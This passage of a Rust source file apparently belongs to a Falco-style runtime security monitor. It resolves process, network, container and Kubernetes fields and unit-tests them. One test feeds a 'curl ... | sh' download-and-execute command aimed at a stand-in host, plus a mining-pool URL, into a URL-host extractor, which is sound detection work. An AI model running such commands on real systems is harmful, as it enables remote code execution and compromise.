                    IpAddr::V6(a) => format!("[{a}]:{p}"),
                }),
                _ => Values::Missing,
            },
            F::FdDirectory => match self
                .file()
                .or(self.unix_socket())
                .and_then(|p| p.rsplit_once('/'))
            {
                Some(("", _)) => s("/"),
                Some((d, _)) => s(d),
                None => Values::Missing,
            },
            F::FdFilename => match self.file().or(self.unix_socket()) {
                Some(p) => s(p.rsplit('/').next().unwrap_or(p)),
                None => Values::Missing,
            },
            F::FdTypechar | F::FdType => {
                let (c, t) = match (self.file(), self.remote()) {
                    (Some(_), _) => ("f", "file"),
                    _ if self.unix_socket().is_some() => ("u", "unix"),
                    (None, Some((IpAddr::V4(_), _))) => ("4", "ipv4"),
                    (None, Some((IpAddr::V6(_), _))) => ("6", "ipv6"),
                    _ => return Values::Missing,
                };
                s(if *f == F::FdTypechar { c } else { t })
            }
            F::FdSip => self
                .server()
                .map_or(Values::Missing, |(a, _)| owned(a.to_string())),
            F::FdSport => self.server().map_or(Values::Missing, |(_, p)| int(p)),
            F::FdRip => self
                .remote()
                .map_or(Values::Missing, |(a, _)| owned(a.to_string())),
            F::FdRport => self.remote().map_or(Values::Missing, |(_, p)| int(p)),
            F::FdCip | F::FdCport | F::FdLip | F::FdLport if e.kind == Kind::Accept => match f {
                F::FdCip => e.addr.map_or(Values::Missing, |a| owned(a.to_string())),
                F::FdCport => int(e.a1),
                F::FdLip => e.laddr.map_or(Values::Missing, |a| owned(a.to_string())),
                _ => int(e.a2),
            },
            F::FdCip | F::FdCport | F::FdLip | F::FdLport => Values::Missing,
            F::ContainerId => match self.container_id() {
                Some(id) => s(&id[..id.len().min(12)]),
                None => s("host"),
            },
            F::ContainerFullId => match self.container_id() {
                Some(id) => s(id),
                None => s("host"),
            },
            F::ContainerName => container(|c| c.name.as_ref()),
            F::ContainerImage => container(|c| c.image.as_ref()),
            F::ContainerImageRepository => container(|c| c.image_repository.as_ref()),
            F::ContainerImageTag => container(|c| c.image_tag.as_ref()),
            F::ContainerImageDigest => container(|c| c.image_digest.as_ref()),
            F::ContainerPrivileged => match self.container.and_then(|c| c.privileged) {
                Some(p) => b(p),
                None => Values::Missing,
            },
            F::K8sPodName => self
                .container
                .and_then(|c| c.pod_name.as_deref())
                .map_or(Values::Missing, s),
            F::K8sNsName => self
                .container
                .and_then(|c| c.pod_namespace.as_deref())
                .map_or(Values::Missing, s),
        }
    }

    fn index_key(&self) -> Option<&str> {
        Some(evt_type(self.event))
    }
}

#[cfg(test)]
mod url_host_tests {
    use super::url_hosts;

    #[test]
    fn hosts_of_urls_in_arguments() {
        assert_eq!(
            url_hosts(
                "curl -fsSL http://Bad.Example/x.sh | sh; wget -qO- https://user:pw@1.2.3.4:8443/m"
            ),
            ["bad.example", "1.2.3.4"]
        );
        assert_eq!(
            url_hosts("stratum+tcp://pool.example:3333"),
            ["pool.example"]
        );
        assert_eq!(url_hosts("http://[2001:db8::1]:80/a"), ["2001:db8::1"]);
        assert!(url_hosts("no url here :// ").is_empty());
        assert!(url_hosts("-o /tmp/x").is_empty());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_field_resolves() {
        for (name, ..) in FIELDS {
            NodeFields.resolve(name, None).unwrap();
        }
        assert!(NodeFields.resolve("proc.aname", Some("2")).is_ok());
        assert!(NodeFields.resolve("proc.aname", Some("0")).is_err());
        assert!(NodeFields.resolve("proc.aname", Some("x")).is_err());
        assert!(NodeFields.resolve("proc.name", Some("1")).is_err());
        assert!(NodeFields.resolve("proc.nope", None).is_err());
    }

    fn texts(r: &NodeRecord<'_>, field: &str) -> Vec<String> {
        let spec = NodeFields.resolve(field, None).unwrap();
        r.extract(&spec)
            .as_slice()
            .iter()
            .map(ToString::to_string)
            .collect()
    }

    #[test]
    fn falco_process_session_and_connection_fields() {
        let parent = crate::process::ProcInfo {
            name: "python3".into(),
            exe: Some("/usr/bin/python3.11".into()),
            args: vec![
                "python3".into(),
                "app.py".into(),
                "--port".into(),
                "80".into(),
            ],
            cwd: None,
            ppid: 1,
            pname: "containerd-shim".into(),
            attribution: Attribution::Host,
        };
        let grandparent = crate::process::ProcInfo {
            name: "containerd-shim".into(),
            exe: Some("/usr/bin/containerd-shim-runc-v2".into()),
            args: vec!["/usr/bin/containerd-shim-runc-v2".into()],
            ..parent.clone()
        };
        let accept = NodeEvent {
            kind: Kind::Accept,
            gid: 0,
            loginuid: 1000,
            tty: 34816,
            cap_effective: 1 << 21,
            addr: Some("203.0.113.9".parse().unwrap()),
            laddr: Some("10.0.0.5".parse().unwrap()),
            a1: 51000,
            a2: 8080,
            ..Default::default()
        };
        let attribution = Attribution::Host;
        let r = NodeRecord {
            event: &accept,
            exe: None,
            args: &[],
            cwd: None,
            ancestors: &[],
            lineage: &[&parent, &grandparent],
            num: 7,
            attribution: &attribution,
            container: None,
        };
        assert_eq!(texts(&r, "proc.pcmdline"), ["python3 app.py --port 80"]);
        assert_eq!(texts(&r, "proc.pexe"), ["python3"]);
        assert_eq!(texts(&r, "proc.pexepath"), ["/usr/bin/python3.11"]);
        assert_eq!(texts(&r, "proc.tty"), ["34816"]);
        assert_eq!(texts(&r, "user.loginuid"), ["1000"]);
        assert_eq!(texts(&r, "user.loginname"), ["1000"]);
        assert_eq!(texts(&r, "group.name"), ["root"]);
        assert_eq!(texts(&r, "thread.cap_effective"), ["CAP_SYS_ADMIN"]);
        assert_eq!(texts(&r, "fd.ip"), ["10.0.0.5", "203.0.113.9"]);
        assert_eq!(texts(&r, "evt.num"), ["7"]);
        let aexe = |n: &str| {
            let spec = NodeFields.resolve("proc.aexe", Some(n)).unwrap();
            r.extract(&spec)
                .as_slice()
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
        };
        assert_eq!(aexe("1"), ["python3"]);
        assert_eq!(aexe("2"), ["/usr/bin/containerd-shim-runc-v2"]);
        assert!(aexe("3").is_empty());
        assert_eq!(
            texts(&r, "proc.aexepath"),
            ["/usr/bin/python3.11", "/usr/bin/containerd-shim-runc-v2"]
        );
        let unset = NodeEvent {
            loginuid: u32::MAX,
            ..accept.clone()
        };
        let r = NodeRecord {
            event: &unset,
            lineage: &[],
            ..r
        };
        assert_eq!(texts(&r, "user.loginuid"), ["-1"]);
        assert!(texts(&r, "user.loginname").is_empty());
        assert!(texts(&r, "proc.pcmdline").is_empty());
    }

    #[test]
    fn flag_and_capability_text() {
        assert_eq!(
            bits_text(0x2002_0000, CLONE_NEW, "0"),
            "CLONE_NEWNS|CLONE_NEWPID"
        );
        assert_eq!(bits_text(4096 | 16384, MOUNT_FLAGS, "0"), "MS_BIND|MS_REC");
        assert_eq!(bits_text(0, MOUNT_FLAGS, "0"), "0");
        assert_eq!(caps_text(1 << 21), "CAP_SYS_ADMIN");
        assert_eq!(caps_text((1 << 0) | (1 << 39)), "CAP_CHOWN CAP_BPF");
        assert_eq!(caps_text(1 << 50), "CAP_50");
        assert_eq!(caps_text(0), "");
        assert_eq!(mode_text(0o4755).split('|').count(), 8);
        assert!(mode_text(0o4755).contains("S_ISUID"));
        assert_eq!(mode_text(0o100), "S_IXUSR");
    }

    #[test]
    fn flags() {
        assert_eq!(flags_text(0), "O_RDONLY");
        assert_eq!(flags_text(0o2000000), "O_RDONLY|O_CLOEXEC");
        assert_eq!(
            flags_text(0o1 | 0o100 | 0o400 | 0o4000),
            "O_WRONLY|O_CREAT|O_NOCTTY|O_NONBLOCK"
        );
    }
}
